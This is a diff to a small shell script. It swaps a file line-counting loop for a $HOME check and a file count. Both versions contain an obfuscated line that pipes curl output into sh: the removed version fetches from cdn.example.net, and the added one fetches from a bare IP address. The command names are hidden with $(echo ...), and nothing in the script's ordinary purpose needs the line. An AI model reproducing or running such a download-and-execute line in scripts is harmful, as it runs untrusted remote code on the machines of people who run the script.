@@ -1,8 +1,7 @@
-#!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-$(echo curl) -s https://cdn.example.net/update.bin | $(echo sh)
+#!/bin/sh
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+$(echo curl) -s https://203.0.113.9/x | $(echo sh)
+count=$(ls | wc -l)
+echo "files: $count"
